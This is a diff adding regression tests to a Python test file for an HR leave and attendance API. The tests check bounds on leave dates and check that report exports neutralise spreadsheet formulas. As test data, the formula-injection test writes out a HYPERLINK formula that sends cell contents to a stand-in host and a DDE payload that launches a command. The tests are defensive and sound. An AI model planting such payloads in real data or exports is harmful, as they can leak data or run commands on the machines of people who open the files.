@@ -4,12 +4,16 @@ from __future__ import annotations
 
 import csv
 import io
+from collections.abc import Iterator
+from pathlib import Path
 
+import httpx
+import pytest
 from openpyxl import load_workbook
 
-from api.conftest import Api, Headers
+from api.conftest import Api, Headers, make_api
 from hadir.services.records import Role
-from services.conftest import photo
+from services.conftest import NOW, FakeFaceEngine, FixedClock, photo
 from services.helpers import ARIO, SRI
 
 XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
@@ -149,3 +153,57 @@ def test_bad_leave_input(api: Api, operator: Headers) -> None:
     assert bad.status_code == 422
     kiosk = api.token(Role.KIOSK)
     assert api.client.post("/api/v1/leave", json=good, headers=kiosk).status_code == 403
+
+
+@pytest.fixture
+def bounded(tmp_path: Path) -> Iterator[Api]:
+    yield from make_api(
+        tmp_path, FakeFaceEngine(), FixedClock(NOW), leave_max_days=10, leave_backdate_days=7
+    )
+
+
+def _ask(api: Api, headers: Headers, start: str, end: str) -> httpx.Response:
+    body = {"employee_id": SRI, "kind": "cuti", "start_date": start, "end_date": end}
+    return api.client.post("/api/v1/leave", json=body, headers=headers)
+
+
+def test_leave_is_bounded_in_length_and_backdating(bounded: Api) -> None:
+    """Issue 13, finding 11: leave from 0001-01-01 to 9999-12-31, or in 2020, was accepted
+    (and once approved, the employee was on leave forever). Today is 2025-03-03 here."""
+    bounded.employee(SRI, "Sri Wahyuni")
+    operator = bounded.token(Role.OPERATOR)
+    refused = {
+        "forever": _ask(bounded, operator, "0001-01-01", "9999-12-31"),
+        "2020": _ask(bounded, operator, "2020-01-06", "2020-01-07"),
+        "too long": _ask(bounded, operator, "2025-03-03", "2025-03-13"),
+        "too far back": _ask(bounded, operator, "2025-02-23", "2025-02-24"),
+        "too far ahead": _ask(bounded, operator, "2027-01-04", "2027-01-05"),
+    }
+    for what, response in refused.items():
+        assert response.status_code == 422, what
+        assert response.json()["error"]["code"] == "validation_error", what
+    assert "10" in refused["too long"].json()["error"]["message"]
+    assert _ask(bounded, operator, "2025-03-03", "2025-03-12").status_code == 201  # 10 days
+    assert _ask(bounded, operator, "2025-02-24", "2025-02-24").status_code == 201  # 7 back
+    assert len(bounded.client.get("/api/v1/leave", headers=operator).json()) == 2
+
+
+FORMULA = '=HYPERLINK("http://x.example/"&B2,"Klik")'
+
+
+def test_typed_text_is_never_a_formula_in_reports(api: Api, operator: Headers) -> None:
+    """Issue 13, finding 4: a name typed as a formula became a live formula in the XLSX
+    and an unescaped ``=`` field in the CSV."""
+    body = {"employee_id": "1985", "name": FORMULA, "unit": "@SUM(1+1)*cmd|' /C calc'!A0"}
+    assert api.client.post("/api/v1/employees", json=body, headers=operator).status_code == 201
+    xlsx = api.client.get("/api/v1/reports/monthly?month=2025-03&format=xlsx", headers=operator)
+    book = load_workbook(io.BytesIO(xlsx.content))
+    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    assert FORMULA in {c.value for c in cells}  # kept, as text
+    csv_url = "/api/v1/reports/monthly?month=2025-03&format=csv&part=rekap"
+    text = api.client.get(csv_url, headers=operator).content.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text)))
+    assert rows[1][1:3] == ["'" + FORMULA, "'@SUM(1+1)*cmd|' /C calc'!A0"]
+    for row in rows:
+        assert not any(field.startswith(("=", "+", "-", "@", "\t", "\r")) for field in row)
